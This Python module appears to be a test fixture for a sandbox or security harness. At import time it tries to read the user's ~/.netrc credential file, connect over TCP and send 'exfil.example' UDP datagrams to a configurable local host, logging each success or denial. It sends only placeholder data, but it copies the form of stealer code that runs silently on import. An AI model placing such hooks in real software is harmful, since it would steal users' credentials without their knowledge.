# Import-time payload: module-level code. It swallows its errors, as real stealers do, and
# notes what it got in $PREMAIN_RESULT.
import os
import socket


def _note(what):
    if os.environ.get("PREMAIN_RESULT"):
        with open(os.environ["PREMAIN_RESULT"], "a") as f:
            f.write(what + "\n")


_port = int(os.environ.get("PREMAIN_SINK_PORT", "0"))
_host = os.environ.get("PREMAIN_SINK_HOST", "127.0.0.1")
if _port:
    try:
        with open(os.path.join(os.path.expanduser("~"), ".netrc")) as f:
            _note("read .netrc %d bytes" % len(f.read()))
    except OSError as e:
        _note("denied .netrc errno %d" % e.errno)
    # Each attempt on its own, so that a denial of one does not hide the next.
    try:
        socket.create_connection((_host, _port), timeout=3).close()
        _note("connected")
    except OSError as e:
        _note("connect failed errno %s" % e.errno)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(b"exfil.example", (_host, _port))
        _note("sent")
    except OSError as e:
        _note("send failed errno %s" % e.errno)
    try:
        u.sendmsg([b"exfil2.example"], [], 0, ("127.0.0.2", _port))
        _note("sent again")
    except OSError as e:
        _note("send again failed errno %s" % e.errno)
    u.close()

def helper():
    return 42
